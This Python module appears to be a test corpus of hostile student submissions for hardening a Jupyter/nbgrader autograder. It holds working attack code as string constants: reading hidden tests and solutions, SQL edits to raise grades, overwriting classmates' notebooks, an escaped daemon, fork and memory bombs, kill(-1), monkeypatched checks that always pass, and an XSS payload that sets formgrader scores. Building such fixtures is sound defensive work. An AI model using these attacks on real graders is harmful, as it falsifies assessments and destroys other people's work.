"""What hostile students put in their answer cells: source code, one constant per attack.

Each attack is what a student who has read this repository would write. None needs the
network or a real victim: attacks that look for the course search the places where a grader
leaves it (the kernel's working folder and its parents, the grader's working folder, the
folder of the installed ``cnncourse`` package and temporary course copies). Every attack that
could harm the machine itself is bounded: the fork bomb stops at 1,000 children, the
memory bomb allocates 6 GiB once, ``kill(-1)`` is only tried by a process that is not root.
"""

from __future__ import annotations

__all__ = [
    "FIND_COURSES", "RUN_SOURCE_SOLUTIONS", "RUN_GRADEBOOK_SOLUTIONS", "LEAK_HIDDEN_TESTS", "SQL_UPDATE",
    "OVERWRITE_CLASSMATES", "POISON_CONFIG", "ESCAPED_DAEMON", "OS_EXIT", "SEGFAULT", "MEMORY_BOMB",
    "BUSY_LOOP", "FORK_BOMB", "KILL_GRADER", "SIXTY_MB", "network", "signal_proof_function",
    "INPUT_TRANSFORMER", "AST_TRANSFORMER", "CUSTOM_EXC", "SHOWTRACEBACK", "TRANSFORM_CELL",
    "PRE_RUN_CELL", "POST_RUN_CELL", "SETTRACE", "GRADING_NO_OPS", "FAKE_GRADING_MODULE",
    "TORCH_ALWAYS_EQUAL", "FAKE_CORR2D", "READ_SYMLINKS", "FORGED_AUTOGRADED", "POSING_SETUP",
    "FORGED_TENSORS", "LYING_MATRIX", "REMEMBERING_FACTORS", "WINDOWS_OF_MAXIMA", "LIBRARY_BLOCK",
    "META_COUNT", "SHAPE_ONLY_LENET", "SHAPE_ONLY_RESIDUAL",
    "HUGE_MESSAGE", "HUGE_CLASS_NAME", "HUGE_DISPLAY_UPDATE", "HUGE_METADATA", "huge_errors_function",
    "PLOTS_X_DIAG", "XSS_MARKDOWN", "SHADOW_SETUP", "alternating_kernel", "LYING_OBSERVE",
]

# Every course folder this process can see: a folder holding nbgrader_config.py.
FIND_COURSES = '''
import glob as _glob
import os as _os
from pathlib import Path as _Path


def _courses(writable=False):
    # Write attacks only aim at the course copy whose marker file holds this batch's token, so
    # that a grader without a sandbox damages neither the repository nor other course copies.
    starts = [_Path.cwd()]
    try:
        starts.append(_Path(_os.readlink(f"/proc/{_os.getppid()}/cwd")))
    except OSError:
        pass
    try:
        import cnncourse as _cc
        starts.append(_Path(_cc.__file__).resolve().parents[2] / "course")
    except Exception:
        pass
    for pattern in ("/tmp/*/course", "/tmp/*/*/course", "/tmp/pytest-of-*/*/*/course", "/tmp/*/*/*/course"):
        starts += [_Path(p) for p in _glob.glob(pattern)]
    found = []
    for start in starts:
        for folder in [start, *start.parents]:
            try:
                if (folder / "nbgrader_config.py").is_file() and folder not in found:
                    if not writable or (folder / "HOSTILE_TARGET").read_text().strip() == _TOKEN:
                        found.append(folder)
            except OSError:
                pass
    return found
'''

# Execute the solution cells of the instructor's source notebook (nothing answered honestly).
RUN_SOURCE_SOLUTIONS = FIND_COURSES + '''
import json as _json
_done = False
for _course in _courses():
    for _nb in sorted((_course / "source" / _ASSIGNMENT).glob("*.ipynb")):
        try:
            _cells = _json.loads(_nb.read_text())["cells"]
        except (OSError, ValueError):
            continue
        for _cell in _cells:
            if _cell["metadata"].get("nbgrader", {}).get("solution") and _cell["cell_type"] == "code":
                exec("".join(_cell["source"]), globals())
                _done = True
    if _done:
        break
'''

# The gradebook keeps every source cell, solutions included: run those.
RUN_GRADEBOOK_SOLUTIONS = FIND_COURSES + '''
import sqlite3 as _sqlite3
for _course in _courses():
    try:
        _db = _sqlite3.connect(f"file:{_course / 'gradebook.db'}?mode=ro", uri=True)
        _rows = _db.execute("SELECT source FROM source_cell ORDER BY rowid").fetchall()
    except Exception:
        continue
    for (_source,) in _rows:
        if "BEGIN SOLUTION" in (_source or ""):
            try:
                exec(_source, globals())
            except Exception:
                pass
    if _rows:
        break
'''

# Print every test cell of the source notebook, hidden tests included, into the feedback.
LEAK_HIDDEN_TESTS = FIND_COURSES + '''
import json as _json
for _course in _courses():
    for _nb in sorted((_course / "source" / _ASSIGNMENT).glob("*.ipynb")):
        try:
            for _cell in _json.loads(_nb.read_text())["cells"]:
                if _cell["metadata"].get("nbgrader", {}).get("grade"):
                    print("".join(_cell["source"]))
        except (OSError, ValueError):
            pass
'''

# Raise one's own grades (and a classmate's) in the gradebook, now and for a minute to come.
_SQL_FUNCTIONS = FIND_COURSES + '''
import sqlite3 as _sqlite3
import threading as _threading
import time as _time

_RAISE = """UPDATE grade SET extra_credit = ? WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n
 JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)"""


def _raise_grades():
    for _course in _courses(writable=True):
        if not (_course / "gradebook.db").is_file():
            continue
        try:
            _db = _sqlite3.connect(_course / "gradebook.db", timeout=1)
            _db.execute(_RAISE, (1000, _ME))
            _db.execute(_RAISE, (100, _VICTIMS[0]))
            _db.execute("UPDATE grade SET manual_score = 1000")
            _db.commit()
            _db.close()
        except Exception:
            pass


def _keep_raising():
    for _ in range(120):
        _raise_grades()
        _time.sleep(0.5)

'''
SQL_UPDATE = _SQL_FUNCTIONS + (
    "_raise_grades()\n_threading.Thread(target=_keep_raising, daemon=True).start()\n")

# Replace classmates' submitted (and already graded) notebooks with empty ones.
OVERWRITE_CLASSMATES = FIND_COURSES + '''
_BLANK = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


def _overwrite(victims):
    for _course in _courses(writable=True):
        for _victim in victims:
            for _stage in ("submitted", "autograded"):
                for _nb in (_course / _stage / _victim).glob("*/*.ipynb"):
                    try:
                        _nb.write_text(_BLANK)
                    except OSError:
                        pass


_overwrite(_VICTIMS)
'''

# Append code to the course's nbgrader_config.py: it runs as the instructor at the next command.
POISON_CONFIG = FIND_COURSES + '''
for _course in _courses(writable=True):
    try:
        with open(_course / "nbgrader_config.py", "a") as _config:
            _config.write("\\nc.Execute.timeout = 1  # added by a student\\n")
        (_course / "source" / _ASSIGNMENT / "PWNED.txt").write_text("a student wrote here")
    except OSError:
        pass
'''

# A process that leaves the kernel's process tree and keeps attacking after the kernel ends.
ESCAPED_DAEMON = OVERWRITE_CLASSMATES + _SQL_FUNCTIONS + '''
import signal as _signal

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        for _sig in (_signal.SIGHUP, _signal.SIGTERM, _signal.SIGINT):
            _signal.signal(_sig, _signal.SIG_IGN)
        for _ in range(60):
            _time.sleep(0.5)
            _overwrite(_VICTIMS)
            _raise_grades()
    _os._exit(0)
'''

OS_EXIT = "import os\nos._exit(1)\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
MEMORY_BOMB = ("import torch\nhog = torch.ones(6 * 2**30 // 4)  # 6 GiB, every page touched\n"
               "print(float(hog[-1]))\ndel hog\n")
BUSY_LOOP = "while True:  # burns a core until something stops it\n    pass\n"
FORK_BOMB = '''import os
import time

children = 0
for _ in range(1000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            time.sleep(10)
        finally:
            os._exit(0)
    children += 1
print("forked", children)
'''
# Kill the grader; a non-root process also tries every process it may signal (other kernels).
KILL_GRADER = '''import os
import signal

if os.getuid() != 0:
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getppid(), signal.SIGKILL)
'''
SIXTY_MB = "for _ in range(600):\n    print('y' * 100_000)  # 60 MB in all\n"
# Output that is not printed: each puts 30 MB into an output field an output cap may forget.
HUGE_MESSAGE = "raise ValueError('m' * 30_000_000)  # 30 MB in an exception's message (and traceback)\n"
HUGE_CLASS_NAME = "raise type('C' * 30_000_000, (ValueError,), {})('boom')  # 30 MB in an exception's name\n"
HUGE_DISPLAY_UPDATE = '''_handle = display("small", display_id=True)
for _ in range(3):  # a display update replaces what was shown: 30 MB in all
    _handle.update({"text/plain": "u" * 10_000_000}, raw=True)
'''
HUGE_METADATA = "display({'text/plain': 'hi'}, metadata={'k': 'z' * 30_000_000}, raw=True)  # 30 MB\n"
# An honest student's picture: matplotlib.pyplot imported by the submission, never by the grader.
PLOTS_X_DIAG = ("import matplotlib.pyplot as plt\n\n"
                "plt.imshow(X_diag, cmap='gray')\nplt.title('X_diag')\nplt.show()\n")


def huge_errors_function(name: str, args: str) -> str:
    """A function that writes 20 MB to stderr and raises an exception whose class name and message
    take 10 MB each, every time a test calls it (the grader relays all of it into the test cell). A
    blank answer raises too (NotImplementedError), so no test can tell the two apart by raising."""
    return f'''import sys


def {name}({args}):
    sys.stderr.write("e" * 20_000_000)
    raise type("N" * 10_000_000, (Exception,), {{}})("m" * 10_000_000)
'''


def network(port: int) -> str:
    """Connect to a listener of the grading machine on ``port`` and to a public DNS server."""
    return f'''import socket

for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"a student was here")
        print("connected to", host, port)
    except OSError as error:
        print("no connection to", host, port, error)
'''


def signal_proof_function(name: str, args: str) -> str:
    """A function that ignores SIGINT and SIGTERM and never returns."""
    return f'''import signal


def {name}({args}):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        pass
'''


# Every later cell becomes empty: its tests never run, so they never fail.
INPUT_TRANSFORMER = "get_ipython().input_transformers_cleanup.append(lambda lines: [])\n"
AST_TRANSFORMER = '''import ast


class Hollow(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Pass()]
        return ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(Hollow())
'''
# Errors of later cells are swallowed or never shown.
CUSTOM_EXC = ("get_ipython().set_custom_exc((BaseException,),\n"
              "                            lambda shell, etype, value, tb, tb_offset=None: None)\n")
SHOWTRACEBACK = '''ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
'''
TRANSFORM_CELL = 'get_ipython().transform_cell = lambda raw_cell: "pass\\n"\n'

_NO_OPS = '''import sys

import cnncourse.grading


def _no_ops(*args, **kwargs):
    for module_name, module in list(sys.modules.items()):
        if module_name.startswith("cnncourse.grading") and module is not None:
            for name in dir(module):
                if name.startswith("check_"):
                    setattr(module, name, lambda *a, **k: None)
'''
# The checks become no-ops before every later cell (a test cell's fresh import gets them too).
PRE_RUN_CELL = _NO_OPS + 'get_ipython().events.register("pre_run_cell", _no_ops)\n_no_ops()\n'
POST_RUN_CELL = _NO_OPS + 'get_ipython().events.register("post_run_cell", _no_ops)\n_no_ops()\n'
GRADING_NO_OPS = _NO_OPS + "_no_ops()\n"
# Replace the whole module: test cells import a fake cnncourse.grading.
FAKE_GRADING_MODULE = '''import sys
import types

fake = types.ModuleType("cnncourse.grading")
fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
fake.quiet = lambda: None
sys.modules["cnncourse.grading"] = fake
import cnncourse
cnncourse.grading = fake
'''
# A tracer rewrites check_close's arguments so the student's value always equals the oracle's.
SETTRACE = '''import sys


def tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("check_close", "check_shape"):
        frame.f_locals["actual"] = frame.f_locals["expected"]
    return None


sys.settrace(tracer)
'''
TORCH_ALWAYS_EQUAL = '''import torch
import torch.testing

torch.isclose = lambda a, b, *args, **kwargs: torch.ones(torch.as_tensor(a).shape, dtype=torch.bool)
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
'''
# The oracle the tests compare with now agrees with the student's zeros.
FAKE_CORR2D = '''import cnncourse.functional


def corr2d(X, K):
    return torch.zeros(X.shape[0] - K.shape[0] + 1, X.shape[1] - K.shape[1] + 1)


cnncourse.functional.corr2d = corr2d
'''
# Files a hostile folder links in (see corpus.py): the source notebook and the gradebook.
READ_SYMLINKS = '''import json
import sqlite3

try:
    for cell in json.load(open("notes.json"))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())
except Exception as error:
    print("no notes:", error)
try:
    db = sqlite3.connect("grades.db", timeout=1)
    db.execute("UPDATE grade SET extra_credit = 1000")
    db.commit()
except Exception as error:
    print("no gradebook:", error)
'''
# A notebook with the same name, written into the kernel's folder, in which nothing fails.
FORGED_AUTOGRADED = '''import glob
import json

for name in glob.glob("*.ipynb"):
    try:
        nb = json.load(open(name))
        for cell in nb["cells"]:
            if cell["cell_type"] == "code":
                cell["source"] = "pass"
                cell["outputs"] = []
        json.dump(nb, open(name, "w"))
    except Exception as error:
        print(error)
'''
# Cells posing as the instructor's read-only setup cell, hoping the clean test kernel runs them:
# one with an id the gradebook does not know, one with the real setup cell's id.
POSING_SETUP = '''import torch
import cnncourse.functional


def corr2d(X, K):
    return torch.zeros(X.shape[0] - K.shape[0] + 1, X.shape[1] - K.shape[1] + 1)


cnncourse.functional.corr2d = corr2d
'''
# The student kernel's side sends a forged stand-in, claiming to be a tensor, instead of every tensor.
FORGED_TENSORS = '''import cnncourse.grading_kernels.student_side as _agent
import torch as _torch

_honest = _agent.encode


def _forged(value, budget=None):
    if type(value) is _torch.Tensor:
        mro = [["torch", "Tensor"], ["torch._C", "TensorBase"], ["builtins", "object"]]
        return ("r", _agent._keep(value), {"mro": mro, "callable": False, "repr": "tensor(...)"})
    return _honest(value, budget)


_agent.encode = _forged
'''
# Checks of *how* were forged by making the student's kernel report what it did; the checks of
# *what* that replaced them compute in the test kernel from returned data. Each attack below is
# one of those forgeries turned on the new question: none may earn a point.
# ps1: a matrix of zeros, a tensor subclass that answers every product with the cross-correlation.
LYING_MATRIX = '''import torch
from cnncourse.functional import corr2d


class _Lying(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("matmul", "__matmul__", "mv", "mm"):
            M, x = args[0], args[1]
            h, w = M.made_for
            return corr2d(x.reshape(h, w).as_subclass(torch.Tensor), M.kernel).reshape(-1)
        return super().__torch_function__(func, types, args, kwargs or {})


def corr2d_matrix(input_shape, K):
    (h, w), (kh, kw) = input_shape, K.shape
    M = torch.zeros((h - kh + 1) * (w - kw + 1), h * w).as_subclass(_Lying)
    M.made_for, M.kernel = (h, w), K
    return M


def corr2d_as_matmul_student(X, K):
    (h, w), (kh, kw) = X.shape, K.shape
    return (corr2d_matrix(X.shape, K) @ X.reshape(-1)).reshape(h - kh + 1, w - kw + 1)
'''
# ps2: factors that remember each other's argument: kernel_matrix ignores K and remembers it,
# pixel_matrix hides the whole convolution (F.conv2d with the remembered K) in its rows.
REMEMBERING_FACTORS = '''import torch
import torch.nn.functional as F

_last = {}


def kernel_matrix(K):
    _last["K"] = K
    return torch.eye(K.shape[0], K.shape[1], dtype=K.dtype)


def pixel_matrix(X):
    c_in, h, w = X.shape
    K = _last["K"]
    Y = F.conv2d(X[None], K.to(X.dtype))[0].reshape(K.shape[0], h * w)
    B = torch.zeros(c_in, h * w, dtype=X.dtype)
    rows = min(c_in, K.shape[0])
    B[:rows] = Y[:rows]
    return B


def conv1x1_as_matmul(X, K):
    return (kernel_matrix(K) @ pixel_matrix(X)).reshape(-1, X.shape[1], X.shape[2])
'''
# ps3: the library's maxima poured into windows of the right shape.
WINDOWS_OF_MAXIMA = '''import torch
import torch.nn.functional as F

PAD_FILL = {"max": float("-inf"), "avg": 0.0}


def pool2d_windows(X, kernel_size, stride=None, padding=0, fill=0.0):
    p_h, p_w = (kernel_size, kernel_size) if isinstance(kernel_size, int) else kernel_size
    stride = (p_h, p_w) if stride is None else stride
    best = F.max_pool2d(X[None, None], (p_h, p_w), stride=stride, padding=padding)[0, 0]
    return best[:, :, None, None].expand(*best.shape, p_h, p_w).clone()


def pool2d_student(X, kernel_size, stride=None, padding=0, mode="max"):
    windows = pool2d_windows(X, kernel_size, stride=stride, padding=padding, fill=PAD_FILL[mode])
    return windows.amax(dim=(-2, -1)) if mode == "max" else windows.mean(dim=(-2, -1))
'''
# ps4: the library's block where its layer list is asked for, and a count read off a block built
# on the meta device (no memory, so no refusal of "building modules" would have been needed).
LIBRARY_BLOCK = '''import cnncourse.models
from torch import nn


def build(layers):
    return layers if isinstance(layers, nn.Module) else nn.Sequential(*layers)


def vgg_block_layers(num_convs, in_channels, out_channels):
    return cnncourse.models.vgg_block(num_convs, in_channels, out_channels)


def vgg_block_student(num_convs, in_channels, out_channels):
    return build(vgg_block_layers(num_convs, in_channels, out_channels))
'''
META_COUNT = '''import torch
from cnncourse.models import ResNeXtBlock


def resnext_param_count(out_channels, groups, bottleneck_multiplier):
    with torch.device("meta"):
        block = ResNeXtBlock(out_channels, groups, bottleneck_multiplier)
    return sum(p.numel() for p in block.parameters())
'''
# Outputs that only look right: a "network" returning the output's shape instead of an output
# (ps3), and a residual block with the right layers whose forward returns an object with a shape.
SHAPE_ONLY_LENET = '''import torch


def build_modern_lenet(in_channels, num_classes, image_size):
    return lambda X: torch.Size([X.shape[0], num_classes])
'''
SHAPE_ONLY_RESIDUAL = '''import torch
from torch import nn


class _Shaped:
    def __init__(self, shape):
        self.shape = shape


class ResidualStudent(nn.Module):
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self.out_channels, self.stride = out_channels, stride
        self.conv1 = nn.Conv2d(in_channels, out_channels, 3, padding=1, stride=stride)
        self.bn1 = nn.BatchNorm2d(out_channels)
        self.conv2 = nn.Conv2d(out_channels, out_channels, 3, padding=1)
        self.bn2 = nn.BatchNorm2d(out_channels)
        needs_1x1 = in_channels != out_channels or stride != 1
        self.conv3 = nn.Conv2d(in_channels, out_channels, 1, stride=stride) if needs_1x1 else None

    def forward(self, X):
        side = (X.shape[-1] + self.stride - 1) // self.stride
        return _Shaped(torch.Size([X.shape[0], self.out_channels, side, side]))
'''

# Markdown a student adds to their notebook: script that would run on the instructor's Jupyter origin
# when formgrader shows the submission (setting every manual score to the maximum) and in the feedback.
_SET_MANUAL_SCORES = ("(async()=>{const id=location.pathname.split('/').filter(s=>s).pop();"
                      "const g=await (await fetch('/formgrader/api/grades?submission_id='+id)).json();"
                      "for(const r of g){if(r.max_score){await fetch('/formgrader/api/grade/'+r.id,"
                      "{method:'PUT',body:JSON.stringify({manual_score:r.max_score})});}}})()")
XSS_MARKDOWN = f'''My notes on edges. <img src=x style="display:none" onerror="{_SET_MANUAL_SCORES}">

<script>document.title = 'XSS-SCRIPT'</script>

[my sources](javascript:document.title='XSS-MD-LINK') and [more](jav&#97;script:alert('XSS-ENTITY'))
and <a href="javascript:document.title='XSS-A'">this</a>

<iframe src="https://example.org/XSS-IFRAME"></iframe>

<svg onload="document.title='XSS-SVG'"><circle r="4"/></svg>
'''


# With the setup cell moved below the tests (or its id swapped, or a test copied above it), the
# names it defines are the student's: torch as a plain object (no module, so a test kernel would get
# a stand-in that runs here) and an oracle corr2d that agrees with all-zero answers.
SHADOW_SETUP = '''import torch as _real_torch


class _TorchProxy:
    def __getattr__(self, name):
        return getattr(_real_torch, name)


torch = _TorchProxy()
K = _real_torch.tensor([[1.0, -1.0]])


def corr2d(X, K):
    return _real_torch.zeros(X.shape[0] - K.shape[0] + 1, X.shape[1] - K.shape[1] + 1)
'''


def alternating_kernel(scale: str) -> str:
    """``difference_kernel`` right for orders 1 and 2, alternating ``±scale`` coefficients beyond:
    wrong, and with ``scale="1e308"`` every product overflows, so a check whose comparisons meet
    nan (nan > bound is False) would pass it."""
    return f'''def difference_kernel(d):
    if d == 1:
        return torch.tensor([[1.0, -1.0]])
    if d == 2:
        return torch.tensor([[1.0, -2.0, 1.0]])
    k = torch.tensor([(-1.0) ** i * {scale} for i in range(d + 1)], dtype=torch.float64)
    if (d + 1) % 2:
        k[-1] = 0.0
    return k[None, :]
'''


# The student kernel's agent answers every call with copies of the arguments taken before it: a
# test that asked the student's kernel what a call did to its arguments would hear "nothing".
LYING_OBSERVE = '''import cnncourse.grading_kernels.student_side as _side
from cnncourse.grading_kernels.observation import Observation as _Observation
import torch as _torch


def _lying_observe(fn, args, kwargs, return_args=False):
    before = tuple(a.clone() if isinstance(a, _torch.Tensor) else a for a in args)
    result = fn(*args, **kwargs)
    try:
        return _Observation(result, args=before if return_args else ())
    except TypeError:
        return _Observation(result)


_side.observe_here = _lying_observe
'''
